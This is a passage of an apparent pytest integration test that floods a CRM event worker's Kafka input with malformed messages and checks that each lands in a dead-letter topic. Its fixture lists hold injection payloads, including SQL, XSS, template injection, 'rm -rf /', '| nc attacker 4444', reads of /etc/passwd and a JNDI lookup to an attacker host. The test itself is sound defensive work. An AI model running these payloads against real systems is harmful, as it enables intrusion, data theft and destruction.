"""Issue 5, hostile input: more than 10,000 malformed messages mixed with a few hundred valid events, on the real
embedded broker. Every bad message must reach the dead-letter topic exactly once, with the reason the contract
(docs/events.md) gives for it and its original bytes; every valid event (hostile-looking strings included) must be
processed; the worker must keep running.

The expected outcome of each message is decided here, by construction: each generator below knows which single
rule of the contract ("Event contract v1" and "Dead letters" in docs/events.md) its message breaks. The test does not
ask `schemas.validate.parse_event` what it thinks.
"""

from __future__ import annotations

import base64
import json
import os
import random
import time
from collections import Counter
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from typing import Callable

import orjson
import pytest
from kafka import KafkaConsumer, TopicPartition
from kafka.partitioner.default import murmur2

from crm_pulse.generator import SyntheticCrm

pytestmark = pytest.mark.integration

SEED = int(os.environ.get("CRM_PULSE_HOSTILE_SEED", "20260105"))
PARTITIONS = 2
DAY = 86_400_000
T0 = 1_767_225_600_000  # 2026-01-01T00:00:00Z
LIMIT = 64 * 1024  # the contract: "Every event is a single JSON object of at most 64 KiB"
N_BAD = 10_600
N_HOSTILE_VALID = 300

# The reasons of the "Dead letters" table in docs/events.md, written out rather than imported.
REASONS = ("oversized", "malformed_json", "not_an_object", "unsupported_version", "unknown_type", "bad_timestamp",
           "invalid_field", "late")  # fmt: skip

# ---------------------------------------------------------------------------------------------- the contract
ID, STR = "id", "str"  # field kinds: ids are strings of 1-128 characters; STR carries (min, max) lengths
AMOUNT, INT, ENUM, CURRENCY = "amount", "int", "enum", "currency"

# type -> (entity field that is the message key, or None for payload.campaign; payload optional?; payload spec)
# payload spec: field -> (kind, extra, required, nullable)
LEAD, CUSTOMER, USER = "lead_id", "customer_id", "user_id"
CONTRACT: dict[str, tuple[str | None, bool, dict]] = {
    "lead.created": (LEAD, False, {"source": (ID, None, True, False), "campaign": (ID, None, False, True),
                                   "score": (INT, (0, 100), False, True), "stage": (ID, None, False, False)}),
    "lead.stage_changed": (LEAD, False, {"from": (ID, None, True, False), "to": (ID, None, True, False)}),
    "lead.activity": (LEAD, False, {"kind": (ENUM, ("call", "email", "meeting", "note"), True, False),
                                    "direction": (ENUM, ("inbound", "outbound"), True, False)}),
    "quote.sent": (LEAD, False, {"quote_id": (ID, None, True, False), "amount": (AMOUNT, None, True, False)}),
    "quote.accepted": (LEAD, False, {"quote_id": (ID, None, True, False)}),
    "deal.won": (LEAD, False, {"amount": (AMOUNT, None, True, False), "currency": (CURRENCY, None, False, False)}),
    "deal.lost": (LEAD, False, {"reason": (STR, (1, 256), True, False)}),
    "customer.subscribed": (CUSTOMER, True, {"plan": (ID, None, False, True), "amount": (AMOUNT, None, False, True)}),
    "customer.renewed": (CUSTOMER, True, {"amount": (AMOUNT, None, False, True)}),
    "customer.cancelled": (CUSTOMER, True, {"reason": (STR, (0, 256), False, True)}),
    "customer.purchase": (CUSTOMER, False, {"amount": (AMOUNT, None, True, False),
                                            "currency": (CURRENCY, None, False, False)}),
    "survey.response": (CUSTOMER, False, {"nps": (INT, (0, 10), False, True), "effort": (INT, (1, 7), False, True)}),
    "ticket.opened": (CUSTOMER, False, {"ticket_id": (ID, None, True, False)}),
    "ticket.contacted": (CUSTOMER, False, {"ticket_id": (ID, None, True, False)}),
    "ticket.resolved": (CUSTOMER, False, {"ticket_id": (ID, None, True, False)}),
    "complaint.filed": (CUSTOMER, True, {"category": (ID, None, False, True)}),
    "campaign.touch": (None, False, {"campaign": (ID, None, True, False),
                                     "kind": (ENUM, ("touch", "click", "response"), True, False)}),
    "marketing.spend": (None, False, {"campaign": (ID, None, True, False), "amount": (AMOUNT, None, True, False),
                                      "purpose": (ENUM, ("acquisition", "retention"), True, False)}),
    "crm.user_activity": (USER, False, {"action": (STR, (1, 64), True, False)}),
}  # fmt: skip
TYPES = tuple(CONTRACT)
ENVELOPE = ("schema_version", "event_id", "type", "occurred_at", "lead_id", "deal_id", "customer_id", "account_id",
            "rep_id", "team_id", "pipeline", "user_id", "payload")  # fmt: skip
OPTIONAL_IDS = ("deal_id", "account_id", "rep_id", "team_id", "pipeline")

# Injection-looking strings. All are 1-64 characters, so each is a valid id, reason or action by itself.
HOSTILE = [
    "'; DROP TABLE leads; --", "' OR '1'='1", "1; DELETE FROM customers WHERE 1=1", "admin'--", "\" OR \"\"=\"",
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config.__class__.__init__.__globals__}}",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "\"><svg/onload=alert(1)>",
    "$(rm -rf /)", "`rm -rf /`", "; cat /etc/passwd", "| nc attacker 4444", "&& shutdown -h now",
    "\u0000", "lead\u0000id", "\u0000\u0000\u0000", "\\u0000", "%00", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/dev/zero", "file:///etc/shadow", "....//....//etc/hosts",
    "\r\nX-Injected: 1", "\n", "\t", " ", "line1\nline2", "\u202egnp.exe", "\ufeffbom", "\u200b", "\x7f", "\x1b[31mred",
    "😀", "𝕏𝕐", "Ω≈ç√∫", "ﷺ", "لمستخدم", "用户", "null", "None", "undefined", "NaN", "true", "0", "-1",
    "1e308",
    "{\"$ne\": null}", "$where", "__proto__", "constructor", "{}", "[]", "\\", "\"", "'", "%s%s%s%n", "{0}",
    "${jndi:ldap://attacker/a}", "rep:all", "all", "unassigned",
]  # fmt: skip
assert all(1 <= len(s) <= 64 for s in HOSTILE)
# Exactly 128 characters: still valid ids.
LONGEST = ["L" * 128, "é" * 128, "😀" * 128, ("'; DROP TABLE leads; --" * 6)[:128], ("../" * 43)[:128]]
NOT_ENVELOPE = ["admin", "is_admin", "__proto__", "constructor", "$where", "$set", "eventId", "Event_ID", "lead_Id",
                "type ", "payload\u0000", "", "sql", "'; DROP TABLE leads; --", "<script>", "occurredAt",
                "id"]  # fmt: skip
WRONG_TYPED = [0, 42, -1, 3.14, True, False, [], ["x"], {}, {"$ne": None}, {"$gt": ""},
               {"nested": {"deeper": ["x", {"deepest": "x"}]}}]  # fmt: skip


@dataclass
class Message:
    key: bytes | None
    value: bytes
    expect: str  # a reason, or "valid"
    type: str | None = None  # for valid events


EPOCH = datetime(1970, 1, 1, tzinfo=timezone.utc)


def iso(ms: int, offset_minutes: int = 0, z: bool = False) -> str:
    """The instant `ms` as ISO-8601 with millisecond precision, written at a given UTC offset."""
    tz = timezone(timedelta(minutes=offset_minutes))
    text = (EPOCH + timedelta(milliseconds=ms)).astimezone(tz).isoformat(timespec="milliseconds")
    return text.replace("+00:00", "Z") if z else text


def murmur_partition(key: bytes | None) -> int | None:
    return None if key is None else (murmur2(key) & 0x7FFFFFFF) % PARTITIONS


class Hostile:
    """Seeded generators of messages, each with the outcome the contract gives it."""

    def __init__(self, seed: int):
        self.rng = random.Random(seed)
        self.n = 0
        self.entity_keys: list[bytes] = []  # keys of valid events, reused as keys of bad messages

    # -- strings and values
    def uid(self, prefix: str = "h") -> str:
        self.n += 1
        return f"{prefix}-{self.n}"

    def some_id(self) -> str:
        r = self.rng.random()
        if r < 0.45:
            return self.rng.choice(HOSTILE)
        if r < 0.55:
            return self.rng.choice(LONGEST)
        return self.uid(self.rng.choice(["lead", "cust", "evt", "x"]))

    def event_id(self) -> str:
        hostile = self.rng.choice(HOSTILE + LONGEST) if self.rng.random() < 0.5 else ""
        return (f"#{self.uid('e')}" + hostile)[:128]

    def valid_value(self, kind, extra):
        rng = self.rng
        if kind == ID:
            return self.some_id()
        if kind == STR:
            lo, hi = extra
            fitting = [s for s in HOSTILE + LONGEST if lo <= len(s) <= hi]
            return rng.choice(fitting + ["x" * hi] + ([""] if lo == 0 else []))
        if kind == AMOUNT:
            return rng.choice([0, 0.0, 1, 19.99, 250_000, 1e308, 5e-324, rng.uniform(0, 10_000)])
        if kind == INT:
            return rng.randint(*extra)
        if kind == ENUM:
            return rng.choice(extra)
        if kind == CURRENCY:
            return rng.choice(["USD", "EUR", "JPY", "XXX", "ZZZ"])
        raise AssertionError(kind)

    def valid_doc(self, at: int, etype: str | None = None) -> dict:
        """A valid event at instant `at`, with hostile-looking strings in its ids and free-text fields."""
        rng = self.rng
        etype = etype or rng.choice(TYPES)
        entity, payload_optional, spec = CONTRACT[etype]
        doc: dict = {"event_id": self.event_id(), "type": etype, "occurred_at": self.valid_time(at)}
        if rng.random() < 0.2:
            doc["schema_version"] = 1
        if entity:
            doc[entity] = self.some_id()
        if entity == LEAD:
            for name in OPTIONAL_IDS:
                if rng.random() < 0.4:
                    doc[name] = self.some_id()
        payload = {}
        for name, (kind, extra, required, _nullable) in spec.items():
            if required or rng.random() < 0.5:
                payload[name] = self.valid_value(kind, extra)
        if payload or not payload_optional or rng.random() < 0.5:
            doc["payload"] = payload
        items = list(doc.items())
        rng.shuffle(items)
        return dict(items)

    def valid_time(self, at: int):
        r = self.rng.random()
        if r < 0.5:
            return at
        if r < 0.7:
            return iso(at, z=True)
        return iso(at, self.rng.choice([0, 330, -660, 840, -720, 59, -59]))

    @staticmethod
    def key_of(doc: dict) -> bytes:
        entity = CONTRACT[doc["type"]][0]
        return (doc[entity] if entity else doc["payload"]["campaign"]).encode()

    def bad_key(self) -> bytes | None:
        rng = self.rng
        r = rng.random()
        if r < 0.3:
            return None
        if r < 0.35:
            return b""
        if r < 0.55 and self.entity_keys:
            return rng.choice(self.entity_keys)
        if r < 0.75:
            return rng.choice(HOSTILE + LONGEST).encode()
        if r < 0.95:
            return rng.randbytes(rng.randint(1, 64))
        return rng.randbytes(rng.randint(1000, 4000))

    def dumps(self, doc) -> bytes:
        """Valid JSON text of `doc`, in one of several equivalent spellings."""
        r = self.rng.random()
        try:
            orjson.dumps(doc)
        except TypeError:  # integers beyond 64 bits
            return json.dumps(doc, ensure_ascii=r < 0.5, allow_nan=False).encode()
        if r < 0.6:
            return orjson.dumps(doc)
        if r < 0.8:
            return json.dumps(doc, ensure_ascii=True, allow_nan=False).encode()  # \uXXXX escapes
        if r < 0.9:
            return orjson.dumps(doc, option=orjson.OPT_INDENT_2)
        return b" \r\n\t" + orjson.dumps(doc) + b"\n \t"

    # -- valid
    def valid(self, at: int) -> Message:
        doc = self.valid_doc(at)
        return Message(self.key_of(doc), self.dumps(doc), "valid", doc["type"])

    def valid_at_limit(self, at: int) -> Message:
        """A valid event padded with JSON whitespace to exactly 64 KiB: not oversized."""
        doc = self.valid_doc(at)
        raw = orjson.dumps(doc)
        return Message(self.key_of(doc), raw + b" " * (LIMIT - len(raw)), "valid", doc["type"])

    # -- oversized: more than 64 KiB, whatever the content
    def oversized(self, at: int) -> bytes:
        rng = self.rng
        size = LIMIT + rng.choice([1, 2, 3, rng.randint(1, 512), rng.randint(1, 4096), rng.randint(1, 64 * 1024)])
        if rng.random() < 0.02:
            size = rng.randint(200_000, 500_000)
        kind = rng.randrange(6)
        if kind == 0:  # a valid event padded with whitespace
            raw = orjson.dumps(self.valid_doc(at))
            return raw + rng.choice([b" ", b"\n", b"\t", b"\r"]) * (size - len(raw))
        if kind == 1:  # a valid event with a huge string (also an invalid id, but the size rule comes first)
            doc = self.valid_doc(at)
            filler = rng.choice(HOSTILE + ["x"])
            doc[rng.choice(["event_id", "rep_id", "occurred_at"])] = filler * (size // len(filler.encode()) + 1)
            return orjson.dumps(doc)
        if kind == 2:
            return rng.randbytes(size)
        if kind == 3:
            docs = []
            while len(orjson.dumps(docs)) <= size:
                docs += [self.valid_doc(at) for _ in range(50)]
            return orjson.dumps(docs)
        if kind == 4:
            return b"{" * size
        return orjson.dumps(self.valid_doc(at)).decode().encode("utf-16") + b"\x00" * size

    # -- malformed_json: empty, or not JSON text (RFC 8259), or not UTF-8
    def malformed_json(self, at: int) -> bytes:
        rng = self.rng
        doc = self.valid_doc(at)
        raw = orjson.dumps(doc)
        kind = rng.randrange(24)
        if kind == 0:
            return rng.choice([b"", b" ", b"\n", b"\t\r\n ", b"\x00", b"\x00" * 10])
        if kind in (1, 2, 3, 4):  # truncated: a proper prefix never closes the top-level object
            return raw[: rng.randrange(len(raw))]
        if kind == 5:  # single quotes
            return raw.replace(b'"', b"'")
        if kind == 6:  # trailing comma
            return raw[:-1] + b",}"
        if kind == 7:  # content after the document
            return raw + rng.choice([b"x", b"}", raw, b"\x00", b" garbage", b";DROP TABLE leads"])
        if kind == 8:  # unquoted key
            return raw.replace(b'"event_id":', b"event_id:", 1)
        if kind == 9:  # JavaScript literals
            placeholder = "@@LITERAL@@"
            doc["occurred_at" if rng.random() < 0.5 else "schema_version"] = placeholder
            literal = rng.choice([b"NaN", b"Infinity", b"-Infinity", b"undefined", b"None", b"True", b"nil"])
            return orjson.dumps(doc).replace(f'"{placeholder}"'.encode(), literal)
        if kind == 10:  # comments
            return raw[:1] + rng.choice([b"/* c */", b"// c\n", b"# c\n"]) + raw[1:]
        if kind == 11:  # raw control characters inside a string
            doc["event_id"] = "@@CTRL@@"
            ctrl = bytes([rng.choice([0, 1, 8, 9, 10, 13, 27, 31])])
            return orjson.dumps(doc).replace(b"@@CTRL@@", b"evt" + ctrl + b"1")
        if kind == 12:  # invalid escapes
            doc["event_id"] = "@@ESC@@"
            escape = rng.choice([b"\\x41", b"\\u12", b"\\u12G4", b"\\q", b"\\U0001F600", b"\\'", b"\\z"])
            return orjson.dumps(doc).replace(b"@@ESC@@", b"e" + escape)
        if kind == 13:  # lone surrogates (json.dumps writes them as escapes; not Unicode text)
            field = rng.choice(["event_id", "type"] + ([CONTRACT[doc["type"]][0]] if CONTRACT[doc["type"]][0] else []))
            doc[field] = rng.choice(["\ud800", "x\udfff", "\ud83d", "\udc00\ud800"])
            return json.dumps(doc).encode()
        if kind == 14:  # numbers JSON does not allow
            doc["occurred_at"] = "@@NUM@@"
            number = rng.choice([b"0%d" % at, b"+%d" % at, b".5", b"1.", b"0x10", b"1e", b"--1"])
            return orjson.dumps(doc).replace(b'"@@NUM@@"', number)
        if kind == 15:  # latin-1: é followed by an ASCII byte is not UTF-8
            doc["event_id"] = f"evt-caf\u00e9-{self.n}-\u00fc-\u00df-x"
            return orjson.dumps(doc).decode().encode("latin-1", errors="replace")
        if kind == 16:  # cp1252: € is 0x80, never a UTF-8 start byte
            doc["event_id"] = f"\u20ac{self.n}-price"
            return orjson.dumps(doc).decode().encode("cp1252", errors="replace")
        if kind == 17:  # UTF-16 / UTF-32, with and without BOM
            encoding = rng.choice(["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le"])
            return orjson.dumps(doc).decode().encode(encoding)
        if kind == 18:  # random bytes, with a 0xFF (never in UTF-8)
            junk = bytearray(rng.randbytes(rng.randint(1, 2048)))
            junk.insert(rng.randrange(len(junk) + 1), 0xFF)
            return bytes(junk)
        if kind == 19:  # invalid UTF-8 inside a string: overlong "/" path traversal, CESU-8 surrogates, 0xFE/0xFF
            doc["event_id"] = "@@BYTES@@"
            bad = rng.choice([b"..\xc0\xaf..\xc0\xafetc\xc0\xafpasswd", b"\xed\xa0\xbd\xed\xb8\x80", b"\xfe\xff",
                              b"\xc3", b"\xe2\x82", b"\xf8\x88\x80\x80\x80", b"\x80abc"])  # fmt: skip
            return orjson.dumps(doc).replace(b"@@BYTES@@", bad)
        if kind == 20:  # UTF-8 BOM: not part of JSON text
            return b"\xef\xbb\xbf" + raw
        if kind == 21:  # a Python repr
            return repr(doc).encode("utf-8", errors="surrogatepass")
        if kind == 22:  # not JSON at all
            return rng.choice([b"<event><id>1</id></event>", b"event_id: e1\ntype: lead.created\n", b"{", b"}",
                               b"{{}}", b"[", b'{"a"}', b'{"a":}', b"{:1}", b'{"a" 1}', b"lead.created",
                               b"'; DROP TABLE leads; --", b"{{7*7}}", b"$(rm -rf /)", b"../../etc/passwd",
                               b"<script>alert(1)</script>"])  # fmt: skip
        return b"{" + raw[1:-1] + b"}}"  # unbalanced

    # -- not_an_object: valid JSON whose top-level value is not an object
    def not_an_object(self, at: int) -> bytes:
        rng = self.rng
        kind = rng.randrange(8)
        if kind == 0:
            return self.dumps([self.valid_doc(at) for _ in range(rng.randint(0, 3))])
        if kind == 1:
            return orjson.dumps(rng.choice(HOSTILE + LONGEST + ["", "{}", "{\"type\": \"lead.created\"}"]))
        if kind == 2:
            return rng.choice([b"0", b"-1", b"3.14", b"1e308", b"-0", b"1767225600000", b"12345678901234567890"])
        if kind == 3:
            return rng.choice([b"null", b"true", b"false", b" null ", b"\ntrue\n"])
        if kind == 4:
            depth = rng.randint(1, 500)
            return b"[" * depth + b"]" * depth
        if kind == 5:
            return orjson.dumps(orjson.dumps(self.valid_doc(at)).decode())  # an event as a JSON string
        if kind == 6:
            return orjson.dumps([1, "a", None, True, {"type": "lead.created"}])
        return b"  [ ] "

    # -- unsupported_version: schema_version present and not 1
    def unsupported_version(self, at: int) -> bytes:
        rng = self.rng
        doc = self.valid_doc(at)
        doc["schema_version"] = rng.choice(
            [2, 0, -1, 3, 10**15, 1.5, 2.0, 0.999, "1", "v1", "", "1.0", None, False, [1], {"v": 1}, "'; DROP TABLE"]
        )
        return self.dumps(doc)

    # -- unknown_type: type missing or not one of the 19
    def unknown_type(self, at: int) -> bytes:
        rng = self.rng
        doc = self.valid_doc(at)
        if rng.random() < 0.1:
            del doc["type"]
        else:
            t = doc["type"]
            doc["type"] = rng.choice([
                None, "", "lead.exploded", t.upper(), t + " ", " " + t, t + "\u0000", t.replace(".", "_"), "lead",
                "lead.*", t.replace(".", "\u2024"), 42, True, [t], {"name": t}, rng.choice(HOSTILE), t + "'; --",
            ])  # fmt: skip
        return self.dumps(doc)

    # -- bad_timestamp: occurred_at missing, unparseable, without offset, out of range, wrong JSON type
    def bad_timestamp(self, at: int) -> bytes:
        rng = self.rng
        doc = self.valid_doc(at)
        if rng.random() < 0.08:
            del doc["occurred_at"]
            return self.dumps(doc)
        text = iso(at)
        doc["occurred_at"] = rng.choice([
            None, True, False, at + 0.5, float(at), -1, -at, 32_503_680_000_000, 32_503_680_000_000 + at, 2**63,
            2**64 + 1, [at], {"ms": at}, "", " ", str(at), str(at // 1000), "last tuesday", "yesterday", "now",
            text[:19], text[:10], "2026-13-01T00:00:00Z", "2026-02-30T00:00:00Z", "2026-01-01T25:00:00Z",
            "2026-01-01T00:00:00+25:00", "2026/01/01 00:00:00Z", "01/02/2026 10:00 +0000",
            "Thu, 01 Jan 2026 00:00:00 GMT", "2026-01-01T00:00:00ZZ", "\uff12\uff10\uff12\uff16-01-01T00:00:00Z",
            "T" * 5000, rng.choice(HOSTILE),
        ])  # fmt: skip
        return self.dumps(doc)

    # -- invalid_field: any other violation, exactly one per message
    def invalid_field(self, at: int) -> bytes:
        rng = self.rng
        doc = self.valid_doc(at)
        etype = doc["type"]
        entity, payload_optional, spec = CONTRACT[etype]
        kind = rng.randrange(12)
        required_ids = ["event_id"] + ([entity] if entity else [])
        if kind == 0:  # a required id of the wrong JSON type (or null)
            doc[rng.choice(required_ids)] = rng.choice(WRONG_TYPED + [None])
        elif kind == 1:  # an optional id of the wrong JSON type
            doc[rng.choice(OPTIONAL_IDS + ((LEAD,) if entity != LEAD else ()))] = rng.choice(WRONG_TYPED)
        elif kind == 2:  # ids of 0 or more than 128 characters
            value = rng.choice(["", "x" * rng.randint(129, 4000), "😀" * 129, "é" * 129, rng.choice(HOSTILE) * 200,
                                "../" * 1000, "\u0000" * 129])  # fmt: skip
            doc[rng.choice(required_ids + list(OPTIONAL_IDS))] = value
        elif kind == 3:  # a required field missing
            required = [n for n, s in spec.items() if s[2]]
            choices = required_ids + (["payload"] if not payload_optional else [])
            name = rng.choice(choices + ["payload." + n for n in required])
            if name.startswith("payload.") and "payload" in doc:
                doc["payload"] = {k: v for k, v in doc["payload"].items() if k != name[8:]}
            elif name.startswith("payload."):
                doc["payload"] = {}
            else:
                doc.pop(name, None)
        elif kind == 4:  # an unknown envelope field
            doc[rng.choice(NOT_ENVELOPE)] = rng.choice(WRONG_TYPED + HOSTILE + [None])
        elif kind == 5:  # an unknown payload field
            payload = dict(doc.get("payload") or {})
            payload[rng.choice(NOT_ENVELOPE + ["amount2", "Source", "stage "])] = rng.choice(WRONG_TYPED + HOSTILE)
            doc["payload"] = payload
        elif kind == 6:  # payload of the wrong JSON type
            doc["payload"] = rng.choice(["", "x", 0, 1, True, [], [doc.get("payload") or {}], rng.choice(HOSTILE)]
                                        + ([None] if not payload_optional else []))  # fmt: skip
        else:  # a payload field with a wrong type or out of range
            doc["payload"] = dict(doc.get("payload") or {})
            name = rng.choice(list(spec))
            kind_, extra, _required, _nullable = spec[name]
            doc["payload"][name] = self.wrong_value(kind_, extra)
        return self.dumps(doc)

    def wrong_value(self, kind, extra):
        rng = self.rng
        if kind == ID:
            return rng.choice(WRONG_TYPED + ["", "x" * 129, "😀" * 129])
        if kind == STR:
            lo, hi = extra
            return rng.choice(WRONG_TYPED + ["y" * (hi + 1), ("'; DROP TABLE leads; --" * 20)[: hi + rng.randint(1, 9)]]
                              + ([""] if lo else []))  # fmt: skip
        if kind == AMOUNT:
            return rng.choice(["120", "1e3", "NaN", "Infinity", "$100", -0.01, -1, -1e308, True, False, [1], {"v": 1},
                               {"$gt": 0}, "'; DROP TABLE leads; --"])  # fmt: skip
        if kind == INT:
            lo, hi = extra
            return rng.choice([lo - 1, hi + 1, hi + 1000, -(2**63), 2**64, float(lo), (lo + hi) / 2 + 0.5, str(lo),
                               True, False, [lo], {"v": lo}])  # fmt: skip
        if kind == ENUM:
            return rng.choice([extra[0].upper(), extra[0] + " ", "", "'; DROP TABLE", "<script>", 0, True, list(extra)])
        if kind == CURRENCY:
            return rng.choice(["usd", "US", "USDX", "U$D", "", " USD", "USD\n", 840, True, ["USD"], None, "ÉUR"])
        raise AssertionError(kind)

    # -- late: valid in every field, but long before the latest event of any partition
    def late(self, at: int) -> bytes:
        rng = self.rng
        doc = self.valid_doc(at)
        doc["occurred_at"] = rng.choice([
            0, 1, rng.randint(0, T0 - 100 * DAY), iso(rng.randint(0, T0 - 100 * DAY), z=True),
            "1970-01-01T00:00:00Z", "1999-12-31T23:59:59.999+14:00",
        ])  # fmt: skip
        return self.dumps(doc)

    def edges(self) -> list[tuple[str, Callable[[int], bytes]]]:
        """A fixed handful of messages at the edges of the contract, each with the outcome docs/events.md gives it."""

        def version(literal: bytes):  # "schema_version: Must be 1. Any other value is rejected as unsupported_version",
            def make(at: int) -> bytes:  # and "a value must already have the JSON type of its field"
                doc = self.valid_doc(at)
                doc["schema_version"] = "@@V@@"
                return orjson.dumps(doc).replace(b'"@@V@@"', literal)

            return make

        def nul_in_time(i: int):  # NUL is no part of an ISO-8601 timestamp: "an unparseable string"
            def make(at: int) -> bytes:
                doc = self.valid_doc(at)
                text = iso(at, z=True)
                doc["occurred_at"] = text + "\u0000" if i % 2 else text[:-1] + "\u0000Z"
                return self.dumps(doc)

            return make

        def stage_fields(i: int):  # lead.stage_changed's payload fields are `from` and `to`: others are unknown
            def make(at: int) -> bytes:
                doc = self.valid_doc(at, "lead.stage_changed")
                doc["payload"] = {"from_stage" if i % 2 else "from": "new", "to_stage": "qualified"}
                return self.dumps(doc)

            return make

        def year_zero(offset: str):  # before 1970: outside the contract's range of event times
            def make(at: int) -> bytes:
                doc = self.valid_doc(at)
                doc["occurred_at"] = "0001-01-01T00:00:00" + offset
                return self.dumps(doc)

            return make

        def huge(size: int):  # oversized messages the broker accepts (up to its 1 MB default)
            return lambda at: b"{" + b" " * (size - 2) + b"}"

        return (
            [("unsupported_version", version([b"true", b"1.0", b"1e0"][i % 3])) for i in range(10)]
            + [("bad_timestamp", nul_in_time(i)) for i in range(10)]
            + [("invalid_field", stage_fields(i)) for i in range(10)]
            + [("bad_timestamp", year_zero(offset)) for offset in ("+01:00", "+14:00", "+00:01")]
            + [("oversized", huge(size)) for size in (800_000, 1_000_000)]
        )


def build(seed: int) -> list[Message]:
    """Valid events in event-time order (synthetic CRM traffic plus hostile-looking valid events), with bad
    messages spread between them."""
    gen = Hostile(seed)
    rng = gen.rng
    synthetic = list(SyntheticCrm(T0, seed=seed % 1000).until(T0 + 2 * DAY))
    valid: list[tuple[int, Message]] = [
        (e["occurred_at"], Message(SyntheticCrm.key(e), orjson.dumps(e), "valid", e["type"])) for e in synthetic
    ]
    for i in range(N_HOSTILE_VALID):
        pos = rng.randrange(1, len(valid) + 1)
        at = valid[pos - 1][0]  # same instant as the event before it: never late
        valid.insert(pos, (at, gen.valid_at_limit(at) if i < 3 else gen.valid(at)))
    gen.entity_keys = sorted({m.key for _, m in valid})

    # Lateness needs a mark on the partition: late messages go only after both partitions have had an event.
    seen: set[int] = set()
    first_late = None
    for index, (_, m) in enumerate(valid):
        seen.add(murmur_partition(m.key))
        if len(seen) == PARTITIONS:
            first_late = index + 1
            break
    assert first_late is not None and first_late < len(valid) // 4

    weights = {"oversized": 130, "malformed_json": 2900, "not_an_object": 800, "unsupported_version": 790,
               "unknown_type": 900, "bad_timestamp": 1490, "invalid_field": 3358, "late": 197}  # fmt: skip
    assert sum(weights.values()) + 35 == N_BAD
    after: dict[int, list[Message]] = {}
    for reason, count in weights.items():
        for _ in range(count):
            pos = rng.randrange(first_late if reason == "late" else 0, len(valid))
            at = valid[pos][0]
            value = getattr(gen, reason)(at)
            assert reason == "oversized" or len(value) <= LIMIT, (reason, len(value))
            assert reason != "oversized" or len(value) > LIMIT
            after.setdefault(pos, []).append(Message(gen.bad_key(), value, reason))
    for reason, make in gen.edges():
        pos = rng.randrange(max(first_late, len(valid) // 2), len(valid))
        after.setdefault(pos, []).append(Message(rng.choice([None, b"edge"]), make(valid[pos][0]), reason))
    messages = []
    for pos, (_, m) in enumerate(valid):
        messages.append(m)
        bad = after.get(pos, [])
        rng.shuffle(bad)
        messages += bad
    return messages


# ----------------------------------------------------------------------------------------------- the test
def counter_sum(metrics: dict, name: str) -> float:
    return sum(v for (sample, _), v in metrics.items() if sample == name)


def by_label(metrics: dict, name: str, label: str) -> dict[str, float]:
    return {dict(labels)[label]: v for (sample, labels), v in metrics.items() if sample == name}


def settle(read, target: float, timeout: float, quiet: float = 5.0):
    """Poll `read()` until it reaches `target`, or stops changing for `quiet` seconds, or time runs out."""
    deadline = time.monotonic() + timeout
    last, since = None, time.monotonic()
    while True:
        value = read()
        if value != last:
            last, since = value, time.monotonic()
        if value >= target or time.monotonic() - since > quiet or time.monotonic() > deadline:
            return value
        time.sleep(0.5)


def read_topic(worker, role: str, expected: int, timeout: float = 60.0) -> list:
    """Every record of the topic, from all its partitions: read until `expected` records are in and then a second
    passes without more, or until nothing more comes for 5 s. Not bounded by the end offsets the broker reports:
    the embedded broker's ListOffsets sometimes lags behind the last records of a partition."""
    consumer = KafkaConsumer(bootstrap_servers=worker.bootstrap, enable_auto_commit=False,
                             max_partition_fetch_bytes=8 * 1024 * 1024, fetch_max_bytes=64 * 1024 * 1024)  # fmt: skip
    try:
        topic = worker.topic(role)
        partitions = consumer.partitions_for_topic(topic)
        assert partitions, f"topic {topic} does not exist"
        consumer.assign([TopicPartition(topic, p) for p in sorted(partitions)])
        consumer.seek_to_beginning()
        records = []
        deadline = time.monotonic() + timeout
        last_new = time.monotonic()
        while time.monotonic() < deadline:
            batches = consumer.poll(timeout_ms=500, max_records=10_000)
            if batches:
                for batch in batches.values():
                    records.extend(batch)
                last_new = time.monotonic()
            elif time.monotonic() - last_new > (1.0 if len(records) >= expected else 5.0):
                break
        return records
    finally:
        consumer.close()


def describe(counter: Counter, limit: int = 40) -> str:
    by_reason = Counter()
    for (key, value, reason), n in counter.items():
        by_reason[reason] += n
    examples = [f"    {reason}: key={key!r:.40} value={value[:240]!r}{'...' * (len(value) > 240)} ({len(value)} bytes)"
                for (key, value, reason), n in sorted(counter.items(), key=lambda kv: kv[0][2])[:limit]]  # fmt: skip
    return f"{sum(counter.values())} {dict(by_reason)}\n" + "\n".join(examples)


def test_hostile_input_is_dead_lettered_exactly_and_the_worker_survives(start_worker):
    messages = build(SEED)
    bad = [m for m in messages if m.expect != "valid"]
    valid = [m for m in messages if m.expect == "valid"]
    expected_invalid = Counter(m.expect for m in bad)
    expected_types = Counter(m.type for m in valid)
    assert len(bad) >= 10_000 and 300 <= len(valid) <= 1_000

    worker = start_worker(CRM_PULSE_PARTITIONS=str(PARTITIONS), CRM_PULSE_CLOCK="event")
    topic = worker.topic("input")
    for m in messages:  # Worker.send flushes after every call: one flush for all of them instead
        worker.producer.send(topic, key=m.key, value=m.value)
    worker.producer.flush(timeout=120)

    def accounted() -> float:
        """Messages read and dead-lettered, processed or recognised as duplicates."""
        assert worker.process.poll() is None, f"worker exited: {worker.log_path.read_text()[-5000:]}"
        metrics = worker.metrics()
        return min(metrics[("crm_events_received_total", ())], sum(
            v for (name, _), v in metrics.items()
            if name in ("crm_events_invalid_total", "crm_events_processed_total", "crm_events_duplicate_total")))

    settle(accounted, len(messages), timeout=150, quiet=10)
    time.sleep(1)  # nothing more is counted afterwards
    metrics = worker.metrics()
    problems = []

    def check(what: str, got, want) -> None:
        if got != want:
            problems.append(f"{what}: got {got}, want {want}")

    check("crm_events_received_total", metrics[("crm_events_received_total", ())], len(messages))
    invalid = by_label(metrics, "crm_events_invalid_total", "reason")
    for reason in REASONS:
        check(f"crm_events_invalid_total{{reason={reason!r}}}", invalid.get(reason, 0), expected_invalid.get(reason, 0))
    processed = by_label(metrics, "crm_events_processed_total", "type")
    duplicate = by_label(metrics, "crm_events_duplicate_total", "type")
    check("processed + duplicate", sum(processed.values()) + sum(duplicate.values()), len(valid))
    for t in TYPES:
        check(f"processed + duplicate of {t}", processed.get(t, 0) + duplicate.get(t, 0), expected_types.get(t, 0))

    # The dead-letter topic: one record per bad message, with its reason, key and original bytes.
    records = read_topic(worker, "dlq", len(bad))
    letters = [orjson.loads(r.value) for r in records]
    got = Counter(
